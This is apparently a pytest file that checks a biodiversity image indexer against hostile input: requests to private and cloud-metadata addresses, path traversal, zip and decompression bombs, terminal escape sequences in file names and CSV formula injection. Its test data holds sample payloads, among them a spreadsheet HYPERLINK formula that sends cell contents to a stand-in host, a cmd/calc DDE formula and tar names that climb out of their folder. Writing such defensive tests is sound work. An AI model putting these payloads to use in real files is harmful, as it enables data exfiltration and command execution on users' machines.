"""Archives, manifests and media URLs written by strangers (issue #16): every probe ends in a
one-line failure on record or a one-line error, nothing outside is read, and the rest of the
run completes. The "public internet" is played by 127.0.0.1 where a test says so (the only
thing mocked: the network beyond loopback)."""

from __future__ import annotations

import http.server
import io
import os
import socket
import subprocess
import sys
import threading
import time
import zipfile
from pathlib import Path

import pytest

from bioindex import Collection
from bioindex.errors import BioindexError
from bioindex.indexer import remote
from tests.conftest import draw_images, send_response


def _jpeg() -> bytes:
    from PIL import Image

    out = io.BytesIO()
    Image.new("RGB", (64, 48), (200, 30, 30)).save(out, "JPEG")
    return out.getvalue()


class _Media(http.server.BaseHTTPRequestHandler):
    hits: list[str] = []
    redirect_to = ""
    drip: dict[str, float] = {}

    def do_GET(self) -> None:  # noqa: N802 (http.server's naming)
        self.hits.append(self.path)
        if self.path.startswith("/photo"):
            self._send(200, {"Content-Type": "image/jpeg"}, _jpeg())
        elif self.path == "/untyped-jpeg":
            self._send(200, {}, _jpeg())
        elif self.path == "/untyped-text":
            self._send(200, {}, b"#!/bin/sh\necho not a picture\n")
        elif self.path == "/redirect":
            self._send(302, {"Location": self.redirect_to}, b"")
        elif self.path == "/drip":
            self.drip["start"] = time.monotonic()
            self.send_response(200)
            self.send_header("Content-Type", "image/jpeg")
            self.send_header("Content-Length", "100000")
            self.end_headers()
            try:
                for _ in range(200):  # bounded: 1 byte every 0.25 s
                    self.wfile.write(b"\xff")
                    self.wfile.flush()
                    time.sleep(0.25)
            except (BrokenPipeError, ConnectionResetError):
                pass
            self.drip["end"] = time.monotonic()
        else:
            self._send(404, {"Content-Type": "text/plain"}, b"missing")

    def _send(self, code: int, headers: dict[str, str], body: bytes) -> None:
        send_response(self, code, headers, body)

    def log_message(self, *args) -> None:
        pass


def _serve(host: str) -> http.server.ThreadingHTTPServer:
    server = http.server.ThreadingHTTPServer((host, 0), _Media)
    server.daemon_threads = True
    threading.Thread(target=server.serve_forever, daemon=True).start()
    return server


@pytest.fixture()
def media():
    _Media.hits, _Media.drip = [], {}
    public, private = _serve("127.0.0.1"), _serve("127.0.0.2")
    yield f"http://127.0.0.1:{public.server_address[1]}", \
        f"http://127.0.0.2:{private.server_address[1]}"  # fmt: skip
    for server in (public, private):
        server.shutdown()
        server.server_close()


@pytest.fixture()
def loopback_is_public(monkeypatch: pytest.MonkeyPatch):
    """127.0.0.1 stands for a server on the public internet; 127.0.0.2 stays private."""
    real = remote.is_public
    monkeypatch.setattr(remote, "is_public", lambda ip: str(ip) == "127.0.0.1" or real(ip))


def _manifest(folder: Path, values: list[str]) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / "manifest.csv"
    path.write_text("url,catalogNumber\n" + "".join(f"{v},C{i}\n" for i, v in enumerate(values)))
    return path


def _reasons(col: Collection) -> dict[str, str]:
    return {f["uri"]: f["error"] for f in col.failures()}


def _one_line(text: str) -> None:
    assert text and "\n" not in text and "Traceback" not in text, text


def test_private_urls_are_refused_and_nothing_is_asked(tmp_path, tiny_model, media) -> None:
    public, _ = media
    port = public.rsplit(":", 1)[1]
    local = draw_images(tmp_path / "m" / "p", 2, seed=1)
    urls = [f"{public}/photo-a.jpg", f"http://localhost:{port}/photo-b.jpg",
            f"http://[::1]:{port}/photo-c.jpg", "ftp://example.org/x.jpg",
            "http://169.254.169.254/latest/meta-data/x.jpg"]  # fmt: skip
    rows = [str(p.relative_to(tmp_path / "m")) for p in local] + urls
    with Collection.open(tmp_path / "s", model=tiny_model, create=True) as col:
        summary = col.index([_manifest(tmp_path / "m", rows)], progress=False,
                            download_timeout=5)  # fmt: skip
        reasons = _reasons(col)
    assert (summary.embedded, summary.failed) == (2, 5)  # the local files still embed
    assert not _Media.hits  # no request reached the server
    for url in urls[:3] + urls[4:]:
        _one_line(reasons[url])
        assert "refused" in reasons[url] and "not a public address" in reasons[url]
    assert "http and https only" in reasons[urls[3]]


def test_redirects_are_checked_hop_by_hop(tmp_path, tiny_model, media, loopback_is_public):
    public, private = media
    _Media.redirect_to = f"{private}/photo-secret.jpg"
    with Collection.open(tmp_path / "s", model=tiny_model, create=True) as col:
        summary = col.index([_manifest(tmp_path / "m", [f"{public}/redirect",
                                                        f"{public}/photo-ok.jpg"])],
                            progress=False, download_timeout=5)  # fmt: skip
        reasons = _reasons(col)
    assert (summary.embedded, summary.failed) == (1, 1)
    assert "not a public address" in reasons[f"{public}/redirect"]
    assert "/photo-secret.jpg" not in _Media.hits  # the private server was never asked


def test_content_must_be_an_image_by_type_or_by_bytes(tmp_path, tiny_model, media,
                                                      loopback_is_public) -> None:  # fmt: skip
    public, _ = media
    with Collection.open(tmp_path / "s", model=tiny_model, create=True) as col:
        summary = col.index([_manifest(tmp_path / "m", [f"{public}/untyped-jpeg",
                                                        f"{public}/untyped-text"])],
                            progress=False, download_timeout=5)  # fmt: skip
        reasons = _reasons(col)
    assert (summary.embedded, summary.failed) == (1, 1)
    assert "not an image" in reasons[f"{public}/untyped-text"]
    assert not list((tmp_path / "s" / "media-cache").rglob("*.tmp"))
    kept = [p for p in (tmp_path / "s" / "media-cache").rglob("*") if p.is_file()]
    assert len(kept) == 1  # the text was never kept


@pytest.mark.slow
def test_a_slow_drip_meets_its_deadline_while_the_rest_embeds(
    tmp_path, tiny_model, media, loopback_is_public
) -> None:
    public, _ = media
    local = draw_images(tmp_path / "m" / "p", 6, seed=2)
    rows = [str(p.relative_to(tmp_path / "m")) for p in local]
    rows += [f"{public}/drip"] + [f"{public}/photo-{i}.jpg" for i in range(4)]
    store = tmp_path / "s"
    progress: list[tuple[float, int]] = []
    with Collection.open(store, model=tiny_model, create=True) as col:
        done = threading.Event()

        def watch() -> None:
            from bioindex.store import Store

            while not done.is_set():
                try:
                    with Store.open(store, read_only=True) as reader:
                        progress.append((time.monotonic(), reader.live_count()))
                except BioindexError:
                    pass
                time.sleep(0.1)

        watcher = threading.Thread(target=watch)
        watcher.start()
        started = time.monotonic()
        summary = col.index([_manifest(tmp_path / "m", rows)], progress=False,
                            download_timeout=4.0, commit_every=4)  # fmt: skip
        elapsed = time.monotonic() - started
        done.set()
        watcher.join()
        reasons = _reasons(col)
    assert (summary.embedded, summary.failed) == (10, 1)
    assert reasons[f"{public}/drip"] == "timed out after 4s"
    assert elapsed < 2 * 4.0  # the deadline held (within 2x, start-up included)
    # Other files were embedded and committed while the drip was still being waited for.
    assert any(count >= 6 and at < _Media.drip["start"] + 4.0 for at, count in progress)


def test_fifos_devices_and_paths_out_of_the_folder_are_never_read(tmp_path, tiny_model):
    folder = tmp_path / "m"
    good = draw_images(folder / "p", 2, seed=3)
    os.mkfifo(folder / "p" / "pipe.jpg")  # in the folder walk and in the manifest
    secret = draw_images(tmp_path / "outside", 1, seed=4)[0]  # a real image, outside
    (folder / "zero.jpg").symlink_to("/dev/zero")
    (folder / "door").symlink_to(tmp_path / "outside")  # a folder inside that leads out
    climb = f"../outside/{secret.relative_to(tmp_path / 'outside')}"
    through = f"door/{secret.relative_to(tmp_path / 'outside')}"
    rows = [str(p.relative_to(folder)) for p in good] + [
        "p/pipe.jpg", str(secret), f"file://{secret}", climb, "zero.jpg", "/etc/passwd",
        through, f"p/../door/{secret.relative_to(tmp_path / 'outside')}"]
    manifest = _manifest(folder, rows)
    with Collection.open(tmp_path / "s", model=tiny_model, create=True) as col:
        walked = col.index([folder / "p"], progress=False)
        assert walked.embedded == 2 and walked.failed == 0  # the FIFO is not even listed
        summary = col.index([manifest], progress=False)
        reasons = _reasons(col)
        uris = [r[0] for r in col.store.catalog.query("SELECT uri FROM images")[1]]
    assert summary.embedded == 0 and summary.unchanged == 2
    assert "not a regular file" in reasons[str(folder / "p" / "pipe.jpg")]
    for row in rows[3:]:
        reason = reasons[row]
        _one_line(reason)
        assert "outside" in reason and "--allow-outside-paths" in reason
    assert not any(str(secret) in uri or "passwd" in uri for uri in uris)
    with Collection.open(tmp_path / "s2", model=tiny_model, create=True) as col:
        trusted = col.index([manifest], progress=False, allow_outside_paths=True)
        reasons = _reasons(col)
    assert trusted.embedded == 3  # the user's opt-in reads the outside image
    assert "not a regular file" in reasons[str(Path("/dev/zero"))]


def _archive(folder: Path, location: str = "occurrence.txt", data: bytes | None = None,
             encoding: str = "") -> Path:  # fmt: skip
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "occurrence.txt").write_bytes(data if data is not None else
                                            b"o1\tPanthera leo\no2\tFelis catus\n")  # fmt: skip
    declared = f' encoding="{encoding}"' if encoding else ""
    (folder / "meta.xml").write_text(f"""<?xml version="1.0"?>
<archive xmlns="http://rs.tdwg.org/dwc/text/">
 <core rowType="http://rs.tdwg.org/dwc/terms/Occurrence" fieldsTerminatedBy="\\t"
       fieldsEnclosedBy=""{declared}>
  <files><location>{location}</location></files><id index="0"/>
  <field index="0" term="http://rs.tdwg.org/dwc/terms/occurrenceID"/>
  <field index="1" term="http://rs.tdwg.org/dwc/terms/scientificName"/>
 </core>
</archive>""")
    return folder


def _zip(folder: Path) -> Path:
    path = folder.with_suffix(".zip")
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for file in folder.iterdir():
            archive.write(file, file.name)
    return path


@pytest.mark.parametrize("zipped", [False, True])
def test_meta_xml_cannot_point_outside_the_archive(tmp_path, tiny_model, zipped) -> None:
    (tmp_path / "secret.txt").write_text("s1\tSecretus secretus\n")
    folder = _archive(tmp_path / "a" / "dwca", location="../../secret.txt")
    source = _zip(folder) if zipped else folder
    with pytest.raises(BioindexError) as caught:
        Collection.open(tmp_path / "s", model=tiny_model, create=True).index([source],
                                                                             progress=False)
    _one_line(str(caught.value))
    assert "not a file in the archive" in str(caught.value)


def test_bad_encoding_and_huge_fields_are_one_line_errors(tmp_path, tiny_model) -> None:
    text = "o1\tAbies alba\no2\tPicea ab\xe9s\n"
    latin = _archive(tmp_path / "latin", data=text.encode("latin-1"))
    with pytest.raises(BioindexError) as caught, \
            Collection.open(tmp_path / "s1", model=tiny_model, create=True) as col:  # fmt: skip
        col.index([latin], progress=False)
    _one_line(str(caught.value))
    assert "occurrence.txt: line 2 is not utf-8" in str(caught.value)
    declared = _archive(tmp_path / "declared", encoding="ISO-8859-1",
                        data="o1\tPicea ab\xe9s\n".encode("latin-1"))  # fmt: skip
    with Collection.open(tmp_path / "s2", model=tiny_model, create=True) as col:
        assert col.index([declared], progress=False).occurrences == 1
        names = col.store.catalog.query("SELECT scientific_name FROM occurrences")[1]
    assert names == [("Picea abés",)]
    # An unquoted archive takes a 1 MB field; a quoted CSV manifest names the line.
    big = _archive(tmp_path / "big", data=b"o1\t" + b"x" * (1 << 20) + b"\n")
    with Collection.open(tmp_path / "s3", model=tiny_model, create=True) as col:
        assert col.index([big], progress=False).occurrences == 1
    manifest = tmp_path / "m" / "manifest.csv"
    manifest.parent.mkdir()
    manifest.write_text('url,remarks\na.jpg,short\nb.jpg,"' + "y" * (1 << 20) + '"\n')
    with pytest.raises(BioindexError) as caught:
        Collection.open(tmp_path / "s4", model=tiny_model, create=True).index([manifest],
                                                                              progress=False)
    _one_line(str(caught.value))
    assert "manifest.csv: line 3" in str(caught.value)
    latin_manifest = tmp_path / "m2" / "m.csv"
    latin_manifest.parent.mkdir()
    latin_manifest.write_bytes("url,remarks\na.jpg,ab\xe9s\n".encode("latin-1"))
    with pytest.raises(BioindexError, match="m.csv: line 2 is not UTF-8"):
        Collection.open(tmp_path / "s5", model=tiny_model, create=True).index([latin_manifest],
                                                                              progress=False)


def test_the_process_wide_csv_limit_is_left_alone() -> None:
    import csv

    import bioindex.indexer.dwca  # noqa: F401 - importing it must not change the limit

    assert csv.field_size_limit() == 131072


@pytest.mark.slow
def test_a_zip_bomb_is_refused_in_little_memory(tmp_path, tiny_model) -> None:
    bomb = tmp_path / "bomb.zip"
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        archive.writestr("meta.xml", _archive(tmp_path / "x").joinpath("meta.xml").read_text())
        with archive.open("occurrence.txt", "w", force_zip64=True) as member:
            block = b"a" * (8 << 20)  # one line of 1.1 GiB, no newline
            for _ in range(140):
                member.write(block)
    assert bomb.stat().st_size < 10 << 20
    # The command's own peak: VmHWM of its process after exec, written as it exits (rusage
    # would count the forked test process's memory too).
    peak = tmp_path / "peak"
    wrapper = ("import atexit, sys; atexit.register(lambda: open(sys.argv[1], 'w').write("
               "next(l for l in open('/proc/self/status') if l.startswith('VmHWM')))); "
               "from bioindex.cli import main; main(sys.argv[2:])")  # fmt: skip
    done = subprocess.run([sys.executable, "-c", wrapper, str(peak), "index", str(bomb), "-s",
                           str(tmp_path / "s"), "-m", tiny_model, "-q"],
                          capture_output=True, text=True, timeout=120)  # fmt: skip
    assert done.returncode == 1
    _one_line(done.stderr.strip())
    assert "zip bomb" in done.stderr
    assert int(peak.read_text().split()[1]) * 1024 < 1 << 30  # peak RSS under 1 GB


def test_leftover_downloads_and_closed_ports(tmp_path, tiny_model, media, loopback_is_public):
    public, _ = media
    with socket.socket() as sock:  # a port nothing listens on
        sock.bind(("127.0.0.1", 0))
        closed = f"http://127.0.0.1:{sock.getsockname()[1]}/photo.jpg"
    store = tmp_path / "s"
    leftover = store / "media-cache" / "ab" / "abcdef.4242.1.tmp"  # a killed run's part file
    with Collection.open(store, model=tiny_model, create=True) as col:
        leftover.parent.mkdir(parents=True)
        leftover.write_bytes(b"\xff\xd8 half a picture")
        summary = col.index([_manifest(tmp_path / "m", [closed, f"{public}/photo-1.jpg"])],
                            progress=False, download_timeout=5)  # fmt: skip
        reasons = _reasons(col)
    assert (summary.embedded, summary.failed) == (1, 1)
    assert reasons[closed] == "could not connect"  # not "refused": no port map for strangers
    assert not list((store / "media-cache").rglob("*.tmp"))


def test_decompression_bombs_and_tar_tricks_at_index_time(tmp_path, tiny_model) -> None:
    import tarfile

    from PIL import Image

    folder = tmp_path / "p"
    draw_images(folder, 2, seed=6)
    Image.new("1", (20000, 20000)).save(folder / "bomb.png")  # 400 MP in a few KB
    shard = tmp_path / "shard-000000.tar"
    with tarfile.open(shard, "w") as tar:
        for name, data in (("../../escape.jpg", _jpeg()), ("/abs/key.jpg", _jpeg()),
                           ("ok.jpg", _jpeg())):  # fmt: skip
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    with Collection.open(tmp_path / "s", model=tiny_model, create=True) as col:
        summary = col.index([folder], progress=False)
        reasons = _reasons(col)
        shards = col.index([shard], progress=False)
    assert (summary.embedded, summary.failed) == (2, 1)
    assert "bomb" in reasons[str(folder / "bomb.png")].lower()
    assert shards.embedded == 3  # read by offset inside the tar: nothing is extracted
    assert not (tmp_path.parent / "escape.jpg").exists() and not Path("/abs").exists()


def test_archive_media_paths_stay_inside_the_archive(tmp_path, tiny_model) -> None:
    secret = draw_images(tmp_path / "outside", 1, seed=8)[0]
    folder = tmp_path / "dwca"
    inside = draw_images(folder / "media", 1, seed=9)[0]
    entries = [str(inside.relative_to(folder)), str(secret), f"file://{secret}",
               f"../outside/{secret.relative_to(tmp_path / 'outside')}", "/dev/zero"]
    (folder / "occurrence.txt").write_text("o1\tUrsus arctos\n")
    (folder / "multimedia.txt").write_text("".join(f"o1\t{e}\n" for e in entries))
    (folder / "meta.xml").write_text("""<?xml version="1.0"?>
<archive xmlns="http://rs.tdwg.org/dwc/text/">
 <core rowType="http://rs.tdwg.org/dwc/terms/Occurrence" fieldsTerminatedBy="\\t"
       fieldsEnclosedBy=""><files><location>occurrence.txt</location></files><id index="0"/>
  <field index="1" term="http://rs.tdwg.org/dwc/terms/scientificName"/></core>
 <extension rowType="http://rs.tdwg.org/ac/terms/Multimedia" fieldsTerminatedBy="\\t"
       fieldsEnclosedBy=""><files><location>multimedia.txt</location></files><coreid index="0"/>
  <field index="1" term="http://rs.tdwg.org/ac/terms/accessURI"/></extension>
</archive>""")
    with Collection.open(tmp_path / "s", model=tiny_model, create=True) as col:
        summary = col.index([folder], progress=False)
        reasons = _reasons(col)
        uris = [r[0] for r in col.store.catalog.query("SELECT uri FROM images")[1]]
    assert (summary.embedded, summary.failed) == (1, 4)
    assert uris == [str(inside)]
    for entry in entries[1:]:
        _one_line(reasons[entry])
        assert "outside" in reasons[entry]


def test_a_file_name_cannot_forge_table_rows_or_drive_the_terminal(tmp_path: Path,
                                                                   tiny_model: str) -> None:
    # A newline in a file's name split its table row in two, so a name could print a fake
    # result row; an escape sequence in it reached the terminal as is.
    from click.testing import CliRunner

    from bioindex.cli import main

    folder = tmp_path / "photos"
    [real] = draw_images(folder, 1, seed=3)
    forged = "x\n9     1.0000  99        forged\x1b[2J.png"
    os.link(real, real.parent / forged)
    store = str(tmp_path / "s")
    made = CliRunner().invoke(main, ["index", str(folder), "-s", store, "-m", tiny_model, "-q"])
    assert made.exit_code == 0, made.output
    for command in (["search", "text", "a photo", "-s", store, "-k", "2"],
                    ["dedup", "-s", store]):  # fmt: skip
        shown = CliRunner().invoke(main, command)
        assert shown.exit_code == 0, shown.output
        assert "\x1b" not in shown.output, shown.output
        assert not any(line.startswith("9     1.0000") for line in shown.output.splitlines())
    table = CliRunner().invoke(main, ["search", "text", "a photo", "-s", store, "-k", "2"])
    assert len(table.output.strip().splitlines()) == 3, table.output  # header + two rows
    assert "x\\n9     1.0000  99        forged\\x1b[2J.png" in table.output


def test_csv_output_cannot_carry_a_spreadsheet_formula(tmp_path: Path, tiny_model: str) -> None:
    # A record's name "=HYPERLINK(…)" from someone else's metadata went into `--format csv`
    # as is, and a spreadsheet opening the file ran it as a formula (CSV injection).
    import csv

    from click.testing import CliRunner

    from bioindex.cli import _result_rows, main

    folder = tmp_path / "photos"
    names = [p.name for p in draw_images(folder, 3, seed=5)]
    hostile = ['=HYPERLINK("http://127.0.0.1/x?"&A1,"Cardinalis")', "@SUM(1+1)*cmd|' /C calc'!A0",
               "'-2+3"]  # fmt: skip
    meta = tmp_path / "meta.csv"
    with open(meta, "w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        writer.writerow(["file", "scientificName", "decimalLatitude", "decimalLongitude"])
        writer.writerows([name, text, "-12.5", "+30.25"] for name, text in zip(names, hostile))
    store = str(tmp_path / "s")
    made = CliRunner().invoke(main, ["index", str(folder), "-s", store, "-m", tiny_model, "-q",
                                     "--metadata", str(meta)])  # fmt: skip
    assert made.exit_code == 0, made.output
    shown = CliRunner().invoke(main, ["search", "text", "a photo", "-s", store, "-k", "3",
                                      "--format", "csv"])  # fmt: skip
    assert shown.exit_code == 0, shown.output
    rows = list(csv.DictReader(shown.output.splitlines()))
    assert len(rows) == 3
    cells = [value for row in rows for value in row.values()]
    assert not any(value.startswith(("=", "+", "@")) for value in cells), cells
    assert sorted(row["scientific_name"] for row in rows) == sorted("'" + t for t in hostile)
    table = CliRunner().invoke(main, ["sql", "-s", store, "--format", "csv",
                                      "SELECT CAST(decimal_latitude AS VARCHAR) AS lat, "
                                      "'+30.25' AS lon FROM images"])  # fmt: skip
    assert table.exit_code == 0, table.output
    assert {(r["lat"], r["lon"]) for r in csv.DictReader(table.output.splitlines())} == {
        ("-12.5", "+30.25")}  # numbers stay numbers
    saved = tmp_path / "result.csv"
    saved.write_text(shown.output, encoding="utf-8")
    assert sorted(row["scientific_name"] for row in _result_rows(str(saved))) == sorted(hostile)


def test_file_names_that_are_not_utf8_fail_alone(tmp_path: Path, tiny_model: str) -> None:
    """A card copied from an old camera, a tar made on a Latin-1 system: one file whose
    name is not UTF-8 reached the catalog as a string DuckDB refuses, and the run stopped
    at its first commit with nothing stored. Such a file is now a failure on record, by
    its name with the odd bytes escaped, and everything else is indexed."""
    import tarfile

    photos = draw_images(tmp_path / "drawn", 3, seed=29)
    folder = tmp_path / "card"
    folder.mkdir()
    for name, photo in ((b"caf\xe9.png", photos[0]), (b"plain.png", photos[1])):
        (folder / os.fsdecode(name)).write_bytes(photo.read_bytes())  # the bytes as named
    with tarfile.open(tmp_path / "shard-000000.tar", "w", encoding="latin-1",
                      format=tarfile.GNU_FORMAT) as tar:  # fmt: skip
        for name, photo in (("r\xe9serve.png", photos[2]), ("000001.png", photos[0])):
            info = tarfile.TarInfo(name)
            info.size = photo.stat().st_size
            tar.addfile(info, io.BytesIO(photo.read_bytes()))
    with Collection.open(tmp_path / "s", model=tiny_model, create=True) as col:
        summary = col.index([folder, tmp_path / "shard-000000.tar"], progress=False)
        assert (summary.embedded, summary.failed) == (2, 2)
        failed = sorted(f["uri"].rsplit("/", 1)[-1] for f in col.failures())
        assert failed == ["caf\\xe9.png", "shard-000000.tar#r\\xe9serve"]
        assert all("not UTF-8" in f["error"] for f in col.failures())


def _damaged_exif_photos(folder: Path, count: int) -> None:
    """Real camera-trap JPEGs with bytes of their EXIF scrambled until Pillow complains."""
    import random
    import warnings

    from PIL import Image

    from bioindex.images import photo_facts_of
    from tests.conftest import shared

    source = Image.open(shared("camera-trap", "blank.jpg"))
    exif = source.getexif()
    exif.get_ifd(0x8825).update({1: "S", 2: (1.0, 17.0, 30.0), 3: "E", 4: (36.0, 49.0, 12.0)})
    out = io.BytesIO()
    source.save(out, "JPEG", exif=exif)
    clean, rng, made = out.getvalue(), random.Random(3), 0
    start = clean.find(b"Exif")
    while made < count:
        data = bytearray(clean)
        for _ in range(10):
            data[start + rng.randrange(600)] = rng.randrange(256)
        with warnings.catch_warnings(record=True) as caught:
            warnings.simplefilter("always")
            photo_facts_of(bytes(data))
        if caught:
            (folder / f"damaged{made}.jpg").write_bytes(bytes(data))
            made += 1


@pytest.mark.slow
def test_damaged_exif_is_not_a_flood_of_warnings(tmp_path: Path, tiny_model: str) -> None:
    """Pillow warned twice per photo whose EXIF is damaged ("Tag data larger than file"),
    from every decode worker, though each photo decodes: a stranger's collection filled
    the terminal. The photos are indexed and the run prints its one line."""
    folder = tmp_path / "card"
    folder.mkdir()
    _damaged_exif_photos(folder, 4)
    from tests.cli_process import run_cli

    run = run_cli(["index", str(folder), "-s", str(tmp_path / "s"), "-m", tiny_model, "-q"])
    assert run.returncode == 0, run.stderr
    assert "embedded 4" in run.stdout and "Warning" not in run.stderr, run.stderr
